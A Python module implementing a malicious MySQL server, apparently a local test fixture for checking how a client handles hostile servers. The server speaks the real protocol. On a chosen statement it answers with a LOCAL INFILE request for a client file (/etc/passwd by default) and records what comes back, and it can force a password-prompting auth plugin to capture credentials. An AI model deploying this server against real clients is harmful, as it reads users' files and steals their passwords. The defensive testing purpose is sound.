"""A MySQL server that means ill, as far as a client lets it: strict in the protocol, so that it is believed."""

import socketserver
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

# Capabilities by MySQL's "Capabilities Flags": 4.1 protocol, secure connection, plugin names, LOCAL, transactions.
CAPABILITIES = 0x00000200 | 0x00008000 | 0x00080000 | 0x00000080 | 0x00002000 | 0x00000008
OK = b"\0\0\0\x02\0\0\0"
END = b"\xfe\0\0\x02\0"
SALT = b"0123456789abcdefghij"
ASK = b"\xfb"
QUERY, QUIT = 3, 1


@dataclass
class Rogue:
    """What it does and what it got.

    Attributes:
        wanted: The file that it asks for.
        at: It asks in answer to statements that begin with this; to the others it answers as a server would.
        plugin: Asks for the password in this way, before anything else.
        stolen: What it was sent of the file.
        heard: Statements.
        shown: What it was given as a password.
    """

    wanted: str = "/etc/passwd"
    at: str = "-"
    plugin: str | None = None
    port: int = 0
    stolen: list[bytes] = field(default_factory=list)
    heard: list[str] = field(default_factory=list)
    shown: list[bytes] = field(default_factory=list)
    asked: int = 0


@contextmanager
def running_rogue(rogue: Rogue) -> Iterator[Rogue]:
    class Handler(_Conversation):
        does = rogue

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address, daemon_threads = True, True

    with Server(("127.0.0.1", 0), Handler) as server:
        rogue.port = server.server_address[1]
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        yield rogue
        server.shutdown()


class _GoneError(Exception):
    """The client has left."""


class _Conversation(socketserver.StreamRequestHandler):
    does: Rogue

    def handle(self) -> None:
        try:
            self._greet()
            while True:
                self.number = -1
                command = self._receive()
                if command[0] == QUIT:
                    return
                self._answer(command[1:].decode() if command[0] == QUERY else "")
        except (_GoneError, OSError):
            return

    def _greet(self) -> None:
        self.number = -1
        low, high = struct.pack("<I", CAPABILITIES)[:2], struct.pack("<I", CAPABILITIES)[2:]
        head = b"\x0a8.4.0\0" + struct.pack("<I", 1) + SALT[:8] + b"\0" + low + b"\x2d\x02\0" + high
        self._send(head + bytes([21]) + b"\0" * 10 + SALT[8:] + b"\0" + b"mysql_native_password\0")
        self._receive()
        if self.does.plugin:
            prompt = b"\x01Password: " if self.does.plugin == "dialog" else b""
            self._send(b"\xfe" + self.does.plugin.encode() + b"\0" + prompt)
            self.does.shown.append(self._receive())
        self._send(OK)

    def _answer(self, statement: str) -> None:
        self.does.heard.append(statement)
        if statement.startswith(self.does.at):
            self.does.asked += 1
            self._send(ASK + self.does.wanted.encode())
            while piece := self._receive():
                self.does.stolen.append(piece)
            self._send(OK)
        elif statement.upper().startswith(("SELECT", "SHOW")):
            self._rows(b"1048576" if "max_allowed" in statement else None)
        else:
            self._send(OK)

    def _rows(self, value: bytes | None) -> None:
        words = (b"def", b"", b"", b"", b"value", b"")
        column = b"".join(bytes([len(word)]) + word for word in words)
        self._send(b"\x01")
        self._send(column + b"\x0c" + struct.pack("<HIBHB", 33, 255, 253, 0, 0) + b"\0\0")
        self._send(END)
        if value is not None:
            self._send(bytes([len(value)]) + value)
        self._send(END)

    def _send(self, payload: bytes) -> None:
        self.number += 1
        self.wfile.write(struct.pack("<I", len(payload))[:3] + bytes([self.number & 255]) + payload)

    def _receive(self) -> bytes:
        head = self.rfile.read(4)
        if len(head) < 4:
            raise _GoneError
        self.number += 1
        if head[3] != self.number & 255:  # another command: the client has taken no notice
            raise _GoneError
        return self.rfile.read(int.from_bytes(head[:3], "little"))
